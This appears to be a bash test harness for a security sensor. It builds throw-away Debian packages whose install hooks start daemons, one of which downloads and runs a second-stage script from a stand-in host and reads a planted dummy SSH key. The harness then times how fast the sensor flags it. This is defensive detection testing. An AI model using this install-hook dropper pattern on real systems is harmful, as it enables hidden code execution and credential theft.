# SPDX-License-Identifier: Apache-2.0
# For what is played under the sensor in a throw-away world: packages, payloads,
# and how soon a verdict came. shellcheck shell=bash
approved=api.vendor.example

# Fetches URL's parts as a web client of any shell script would.
client() {
	cat <<-'END'
		get() { # HOST PATH
			exec 3<>"/dev/tcp/$1/80" || exit
			printf 'GET %s HTTP/1.0\r\nHost: %s\r\n\r\n' "$2" "$1" >&3
			sed '1,/^.$/d' <&3
			exec 3>&-
		}
	END
}

# A daemon's honest work.
honest() {
	echo '#!/bin/bash'
	client
	echo "get $approved /hello >/dev/null"
}

# Whom what was slipped in talks to: another for each scene.
unapproved() { # NAME
	echo "cdn.$1-metric.example"
}

# What someone slipped in: it fetches a script, and starts it.
tampering() { # NAME
	cat <<-END
		get $(unapproved "$1") /stage2 >/var/lib/$1.tmp
		chmod +x /var/lib/$1.tmp
		/var/lib/$1.tmp &
	END
}

# Harmless: the key is made by this test, and no byte of it is sent.
stage2() { # NAME
	echo '#!/bin/bash'
	client
	cat <<-END
		who=\$(id -un)
		get $(unapproved "$1") "/hello?user=\$who" >/dev/null
		cat /root/.ssh/id_ed25519 >/dev/null
	END
}

# A package in /tmp, its daemon from standard input, started when it is installed.
package() { # NAME VERSION
	local tree=/tmp/tree

	rm -rf $tree
	mkdir -p $tree/DEBIAN "$tree/usr/lib/$1"
	{
		cat
		echo 'sleep 1000'
	} >"$tree/usr/lib/$1/daemon"
	printf 'Package: %s\nVersion: %s\nArchitecture: all\nMaintainer: %s\nDescription: %s\n' \
		"$1" "$2" "vendor <info@vendor.example>" "plays a part" >$tree/DEBIAN/control
	printf '#!/bin/sh\nsetsid /usr/lib/%s/daemon >/dev/null 2>&1 </dev/null &\n' "$1" >$tree/DEBIAN/postinst
	chmod 755 "$tree/usr/lib/$1/daemon" $tree/DEBIAN/postinst
	dpkg-deb -Znone --root-owner-group --build $tree "/tmp/$1_$2.deb" >/dev/null
}

await() { # TEXT FILE
	for _ in {1..200}; do
		grep -q -e "$1" "$2" 2>/dev/null && return
		sleep 0.05
	done
	return 1
}

# Its part of the world outside.
publish() { # NAME
	local host

	host=$(unapproved "$1")
	mkdir -p "/srv/$host"
	stage2 "$1" >"/srv/$host/stage2"
}

furnish() {
	mkdir -p /srv/$approved /root/.ssh
	(umask 077 && echo 'not a real key' >/root/.ssh/id_ed25519)
}

begin() { # OPTION...
	"$sensor" --approve=$approved --record=/tmp/events "$@" >/tmp/verdicts 2>/tmp/err &
	watching=$!
	await watching /tmp/err || {
		echo "skipped: $(cat /tmp/err)"
		exit 77
	}
}

end() {
	kill "$watching" 2>/dev/null
	wait "$watching"
}

nanoseconds() { # TIME
	date -d "$1" +%s%N
}

# The first verdict on NAME's product, and how long after the first event that has
# to do with its unapproved host. One second is the most: by
# the time of the events, not by a clock which a busy machine lets go on.
expect() { # SCENE NAME
	local form='"level":"([a-z]*)","score":(-?[0-9]*).*"last_time":"([^"]*)"'
	local text='"host":"scenes["/].*"product":"[^"]*'$2'"' act decided now

	await "$text" /tmp/verdicts || {
		echo "FAIL: $1: no verdict"
		return 1
	}
	now=$(date +%s%N)
	[[ $(grep -m1 -e "$text" /tmp/verdicts) =~ $form ]]
	decided=$(nanoseconds "${BASH_REMATCH[3]}")
	act=$(grep -m1 -F "$(unapproved "$2")" /tmp/events | sed 's/.*"time":"\([^"]*\)".*/\1/')
	act=$(nanoseconds "$act")
	printf '%-10s %s %s: decided by what came %d ms after the first bad act, told after %d ms\n' "$1" \
		"${BASH_REMATCH[1]^^}" "${BASH_REMATCH[2]}" $(((decided - act) / 1000000)) $(((now - act) / 1000000))
	((decided - act <= 1000000000)) || {
		echo "FAIL: $1: later than a second"
		return 1
	}
}
